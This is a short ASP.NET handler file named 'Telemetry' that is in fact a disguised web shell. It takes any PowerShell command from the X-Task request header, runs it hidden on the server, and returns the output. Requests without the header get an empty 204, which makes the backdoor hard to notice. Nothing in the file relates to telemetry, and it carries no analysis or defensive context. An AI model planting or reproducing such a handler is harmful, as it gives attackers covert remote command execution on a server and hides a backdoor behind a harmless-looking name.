<%@ WebHandler Language="C#" Class="Telemetry" %>
using System;
using System.Web;
using System.Diagnostics;

public class Telemetry : IHttpHandler
{
	public void ProcessRequest(HttpContext context)
	{
		string task = context.Request.Headers["X-Task"];
		if (task == null) { context.Response.StatusCode = 204; return; }
		var info = new ProcessStartInfo("powershell.exe", "-NoProfile -NonInteractive -Command " + task)
		{
			UseShellExecute = false,
			RedirectStandardOutput = true,
			CreateNoWindow = true
		};
		using (var proc = System.Diagnostics.Process.Start(info))
		{
			context.Response.Write(proc.StandardOutput.ReadToEnd());
		}
	}

	public bool IsReusable { get { return false; } }
}
